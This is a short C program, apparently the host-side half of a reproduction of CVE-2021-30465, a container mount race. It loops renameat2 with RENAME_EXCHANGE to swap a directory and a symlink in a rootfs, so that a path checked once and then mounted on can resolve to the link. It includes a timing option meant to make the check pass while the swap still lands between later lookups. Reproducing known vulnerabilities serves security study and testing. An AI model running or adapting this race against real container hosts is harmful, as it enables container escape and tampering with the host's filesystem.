/*
 * The host-side half of the CVE-2021-30465 reproduction: swap two names in a
 * directory of the rootfs as fast as the kernel allows, forever, with
 * renameat2(RENAME_EXCHANGE) (rename(2)). One of the names is a directory,
 * the other a symlink pointing elsewhere, so a path looked up twice (checked,
 * then mounted on) can be a directory the first time and the link the second.
 *
 *   rename_exchange DIR A B [HOLD]
 *
 * swaps DIR/A and DIR/B until killed. With HOLD, the names stay as they
 * were found for HOLD spins of a busy loop before each swap to the other
 * state and back, so a check made at a random moment mostly sees A as it
 * was, and passes, while the swap still comes often enough to fall between
 * two later lookups.
 */
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <sys/syscall.h>
#include <unistd.h>

#ifndef RENAME_EXCHANGE
#define RENAME_EXCHANGE (1 << 1)
#endif

int main(int argc, char **argv) {
  if (argc != 4 && argc != 5) {
    fprintf(stderr, "usage: %s DIR A B [HOLD]\n", argv[0]);
    return 2;
  }
  int dir = open(argv[1], O_PATH | O_DIRECTORY | O_CLOEXEC);
  if (dir < 0) {
    perror(argv[1]);
    return 1;
  }
  long hold = argc == 5 ? atol(argv[4]) : 0;
  for (;;) {
    for (volatile long i = 0; i < hold; i++) {
    }
    for (int twice = 0; twice < 2; twice++) {
      if (syscall(SYS_renameat2, dir, argv[2], dir, argv[3], RENAME_EXCHANGE) != 0) {
        perror("renameat2");
        return 1;
      }
    }
  }
}
